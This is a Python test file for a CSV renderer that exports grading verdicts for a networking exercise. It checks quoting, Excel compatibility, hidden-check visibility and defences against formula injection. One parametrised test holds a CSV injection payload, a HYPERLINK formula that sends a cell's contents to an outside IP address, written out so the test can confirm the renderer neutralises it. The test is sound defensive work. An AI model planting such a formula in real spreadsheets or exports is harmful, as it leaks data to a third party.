from __future__ import annotations

import csv
import io

import pytest

from kit.renderers.csv import HEAD, neutral
from tests.renderers.verdicts import HANDSHAKE, HIDDEN, ORDER, QUEUE, RECEIVED, verdict, writer

render = writer("csv")


def rows(text: str) -> list[dict[str, str]]:
    """Read it strictly, as what Excel takes: the byte order mark goes, every row is as long as the head."""
    read = list(csv.reader(io.StringIO(text.encode("utf-8").decode("utf-8-sig"), newline=""), strict=True))
    assert {len(row) for row in read} == {len(HEAD)}
    return [dict(zip(read[0], row, strict=True)) for row in read[1:]]


def test_a_verdict_is_a_row() -> None:
    text = render(
        verdict(HANDSHAKE, ORDER, QUEUE, RECEIVED, seed="s7", notes=("one", "two")), verdict(HANDSHAKE)
    )
    first, second = rows(text)
    assert first == {
        "submission": "alice",
        "exercise": "listen-accept",
        "outcome": "fail",
        "score": "1",
        "max_score": "6",
        "pass": "handshake",
        "fail": "accept_order",
        "inconclusive": "queue",
        "skipped": "received",
        "hidden": "0",
        "notes": "one; two",
        "backend": "netns",
        "seed": "s7",
        "run_dir": "runs/one",
    }
    assert (second["outcome"], second["fail"]) == ("pass", "")


def test_it_is_as_rfc_4180_and_excel_want_it() -> None:
    text = render(verdict(HANDSHAKE, submission='a "b", c'))
    assert text.startswith("\ufeffsubmission,exercise,")
    assert text.count("\r\n") == text.count("\n") == 2
    assert '"a ""b"", c"' in text


def test_a_teacher_sees_hidden_checks_marked_and_a_student_their_number() -> None:
    (row,) = rows(render(verdict(HANDSHAKE, HIDDEN)))
    assert (row["outcome"], row["fail"], row["hidden"]) == ("fail", "secret-order (hidden)", "0")
    (row,) = rows(render(verdict(HANDSHAKE, HIDDEN), audience="student"))
    assert (row["outcome"], row["fail"], row["hidden"]) == ("so far passed", "", "1")


@pytest.mark.parametrize("first", ["=", "+", "-", "@", " =", "＝", "＋", "－", "＠"])  # noqa: RUF001
def test_a_name_is_no_formula(first: str) -> None:
    name = f'{first}HYPERLINK("http://198.18.0.9/?"&A1,"x")'
    (row,) = rows(render(verdict(HANDSHAKE, submission=name)))
    assert row["submission"] == f"'{name}"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("\t=1+1", "\\t=1+1"),
        ("\r=1+1", "\\x0d=1+1"),
        ("\n=1+1", "\\n=1+1"),
        ("a=1", "a=1"),
        ("张三", "张三"),
        ("", ""),
    ],
)
def test_a_cell_is_one_line_that_no_spreadsheet_computes(text: str, cell: str) -> None:
    assert neutral(text) == cell


def test_what_is_inconclusive_has_no_score_that_could_be_added_up() -> None:
    (row,) = rows(render(verdict(HANDSHAKE, QUEUE)))
    assert (row["outcome"], row["score"], row["max_score"]) == ("inconclusive", "", "2")


def test_a_batch_is_as_many_rows() -> None:
    assert len(rows(render(*[verdict(HANDSHAKE, submission=f"s{number}") for number in range(300)]))) == 300
